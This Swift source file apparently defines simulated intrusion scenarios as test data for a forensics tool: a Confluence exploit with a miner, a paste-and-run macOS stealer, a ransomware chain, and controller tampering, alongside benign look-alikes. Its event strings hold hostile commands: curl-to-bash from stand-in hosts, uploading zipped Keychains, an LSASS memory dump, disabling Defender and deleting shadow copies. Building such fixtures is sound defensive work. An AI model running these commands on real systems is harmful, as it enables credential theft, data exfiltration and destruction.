import Forensics
import Tables

/// Estates that were broken into, each in its own way, in three weeks of ordinary noise.
enum Intrusions {
    private static func office(exposed: Bool = false) -> EstateScript {
        var script = EstateScript()
        for i in 1...8 { script.device("desk\(i)", "10.9.2.\(i)") }
        script.device("files", "10.9.1.10", os: "WindowsServer2022")
        script.device("ledger", "10.9.1.11", os: "WindowsServer2022")
        script.device("web", "10.9.1.12", os: "Linux", exposed: exposed)
        script.quiet(servers: ["files", "ledger"], clients: (1...8).map { "desk\($0)" })
        return script
    }

    /// A flaw of the wiki lets somebody in; a page, a miner and a cron line follow.
    static func wiki() -> EstateScript {
        var script = office(exposed: true)
        script.flaw("web", "CVE-2023-22527", "atlassian", "confluence_server", exploited: true)
        script.flaw("web", "CVE-2024-0001", "gnu", "libcharm", exploited: false)
        let t = EstateScript.at(14, 3.3)
        let wiki = script.host(
            "web", "java", "/opt/atlassian/confluence/jre/bin/java", account: "confluence",
            command:
                "/opt/atlassian/confluence/jre/bin/java -Dcatalina.home=/opt/atlassian/confluence org.apache.catalina.startup.Bootstrap"
        )
        let shell = script.start(
            t, below: wiki, "/usr/bin/bash", "bash -c curl -s http://203.0.113.9/k.sh -o /tmp/.k.sh")
        script.connect(t + 0.1, by: shell, "203.0.113.9", 80, isPublic: true)
        script.write(t + 0.2, by: shell, "/tmp/.k.sh")
        let run = script.start(
            t + 0.5, below: shell, "/tmp/.k", "/tmp/.k --donate-level 1 -o stratum+tcp://203.0.113.9:3333")
        script.connect(t + 0.6, by: run, "203.0.113.9", 3333, isPublic: true)
        script.write(t + 1, by: run, "/var/spool/cron/crontabs/confluence")
        return script
    }

    /// A person runs what a web page told them to paste; the thief asks for the password and goes.
    static func paste() -> EstateScript {
        var script = office()
        script.device("mac1", "10.9.2.40", os: "macOS")
        let t = EstateScript.at(15, 10.2)
        let terminal = script.host(
            "mac1", "Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", account: "wren")
        let shell = script.start(t, below: terminal, "/bin/bash", "bash -c \"curl -fsSL http://203.0.113.44/i | bash\"")
        script.connect(t + 0.1, by: shell, "203.0.113.44", 80, isPublic: true)
        script.start(
            t + 0.4, below: shell, "/usr/bin/osascript",
            "osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'")
        script.write(t + 2, by: shell, "/Users/wren/Library/LaunchAgents/com.helper.plist")
        script.start(t + 3, below: shell, "/usr/bin/zip", "zip -r /tmp/out.zip /Users/wren/Library/Keychains")
        script.start(t + 4, below: shell, "/usr/bin/curl", "curl -F file=@/tmp/out.zip http://203.0.113.44/up")
        return script
    }

    /// What an investigation of `encryption()` finds; it is asked for often, and takes seconds.
    static let encryptionFound: Result<Investigation, any Error> = Result { try encryption().investigate() }

    /// Mail, a stolen administrator, remote service execution, and encryption of two servers.
    static func encryption() -> EstateScript {
        var script = office()
        script.setting("desk3", "scid-2501", on: false)
        script.setting("desk3", "scid-2509", on: false)
        script.setting("files", "scid-2508", on: false)
        script.setting("files", "scid-2003", on: false)
        script.setting("ledger", "scid-2508", on: true)
        let t = EstateScript.at(16, 9.5)
        let mail = script.host(
            "desk3", "OUTLOOK.EXE", #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
            account: "user.desk3")
        let word = script.start(
            t, below: mail, #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
            #"WINWORD.EXE /n "C:\Users\user.desk3\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\A\bill.docm""#
        )
        let shell = script.start(
            t + 0.3, below: word, #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
        script.connect(t + 0.4, by: shell, "198.51.100.77", 443, isPublic: true)
        script.start(
            t + 30, below: shell, #"C:\Windows\System32\rundll32.exe"#,
            #"rundll32 C:\windows\System32\comsvcs.dll, MiniDump 612 C:\Users\Public\m.bin full"#)
        script.connect(t + 59.9, by: shell, "10.9.1.10", 445, isPublic: false)
        script.logon("files", t + 60, "adm.finch", "Network", from: "10.9.2.3")
        let services = script.host("files", "services.exe", #"C:\Windows\System32\services.exe"#)
        let dropped = script.start(t + 60.5, below: services, #"C:\Windows\qlmzt.exe"#, #"C:\Windows\qlmzt.exe"#)
        let command = script.start(
            t + 61, below: dropped, #"C:\Windows\System32\cmd.exe"#, #"cmd.exe /c C:\PerfLogs\e.exe D:\"#)
        script.start(
            t + 61.5, below: command, #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
            "powershell Set-MpPreference -DisableRealtimeMonitoring $true")
        let payload = script.start(t + 62, below: command, #"C:\PerfLogs\e.exe"#, #"C:\PerfLogs\e.exe D:\"#)
        script.start(
            t + 62.5, below: payload, #"C:\Windows\System32\vssadmin.exe"#, "vssadmin.exe Delete Shadows /All /Quiet")
        for i in 0..<40 {
            script.write(
                t + 63 + Double(i) * 0.02, by: payload,
                #"D:\Shares\#(["Sales", "Legal", "HR"][i % 3])\doc\#(i).xlsx.qqz"#, "FileRenamed",
                before: "doc\(i).xlsx")
        }
        return script
    }

    /// The engineering station is taken over a desk machine; a controller is programmed at night.
    static func plantNight() -> EstateScript {
        var script = office()
        script.device("eng1", "10.50.2.5")
        script.device("jump", "10.50.9.2", os: "WindowsServer2022")
        script.plantDevice("PLC-7", "10.50.1.7", "PLC")
        script.plantDevice("PLC-8", "10.50.1.8", "PLC")
        script.plantDevice("ENG1", "10.50.2.5", "Engineering Station", station: true)
        for day in [2, 9] {
            script.logon("eng1", EstateScript.at(day, 10), "eng.teal", "RemoteInteractive", from: "10.50.9.2")
            script.plant(EstateScript.at(day, 10.1), "REMOTE_ACCESS", "RDP connection from 10.50.9.2 to 10.50.2.5.")
            script.plant(
                EstateScript.at(day, 10.5), "PROGRAM_DEVICE", "Host 10.50.2.5 sent a program to controller 10.50.1.8.")
        }
        let t = EstateScript.at(17, 2)
        script.plant(t, "REMOTE_ACCESS", "AnyDesk connection from 203.0.113.80 to 10.50.2.5.")
        script.plant(t + 12, "PROGRAM_UPLOAD_DEVICE", "Host 10.50.2.5 read the program of controller 10.50.1.7.")
        script.plant(
            t + 20, "PLC_OPERATING_MODE_CHANGED",
            "Controller 10.50.1.7 went from Run to Program. Command sent by 10.50.2.5.")
        script.plant(t + 21, "PROGRAM_DEVICE", "Host 10.50.2.5 sent a program to controller 10.50.1.7.")
        return script
    }

    /// The internet writes to a controller.
    static func openController() -> EstateScript {
        var script = office()
        script.plantDevice("PUMP", "10.50.1.20", "PLC")
        let t = EstateScript.at(12, 4)
        script.plant(
            t, "PLC_OPERATING_MODE_CHANGED",
            "Controller 10.50.1.20 went from Run to Stop. Command sent by 203.0.113.66.")
        script.plant(t + 2, "PROGRAM_DEVICE", "Host 203.0.113.66 sent a program to controller 10.50.1.20.")
        return script
    }

    /// Attempts that every control stopped.
    static func stopped() -> EstateScript {
        var script = office()
        let mail = script.host(
            "desk5", "OUTLOOK.EXE", #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
            account: "user.desk5")
        let word = script.start(
            EstateScript.at(13, 11), below: mail, #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
            "WINWORD.EXE /n bill.docm")
        script.tell(EstateScript.at(13, 11.01), by: word, "AsrOfficeChildProcessBlocked", file: "powershell.exe")
        return script
    }

    /// Nothing but work: a new service of a printer, a helpdesk account, an administrator's rounds, a zipped folder.
    static func nothing() -> EstateScript {
        var script = office()
        let desk = script.host("desk2", "explorer.exe", #"C:\Windows\explorer.exe"#, account: "user.desk2")
        let setup = script.start(
            EstateScript.at(11, 10), below: desk, #"C:\Users\user.desk2\Downloads\labels_setup.exe"#, "labels_setup.exe"
        )
        script.value(
            EstateScript.at(11, 10.01), by: setup, #"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"#,
            "Labels", #"C:\Program Files\Labels\tray.exe"#)
        let help = script.host("desk6", "explorer.exe", #"C:\Windows\explorer.exe"#, account: "adm.finch")
        script.start(EstateScript.at(12, 14), below: help, #"C:\Windows\System32\net.exe"#, "net user kiosk7 /add")
        script.tell(
            EstateScript.at(12, 14.01), by: script.host("desk6", "lsass.exe", #"C:\Windows\System32\lsass.exe"#),
            "UserAccountCreated", account: "kiosk7")
        script.start(
            EstateScript.at(12, 16), below: help, #"C:\Windows\System32\wevtutil.exe"#,
            #"wevtutil epl Security C:\temp\q1.evtx"#)
        for i in 0..<60 {
            let tool = script.host(
                "desk7", "Renamer.exe", #"C:\Program Files\Renamer\Renamer.exe"#, account: "user.desk7")
            script.write(
                EstateScript.at(13, 12) + Double(i) * 0.01, by: tool,
                #"C:\Users\user.desk7\Pictures\holiday-\#(i).jpg"#, "FileRenamed", before: "IMG\(i).jpeg")
        }
        return script
    }
}
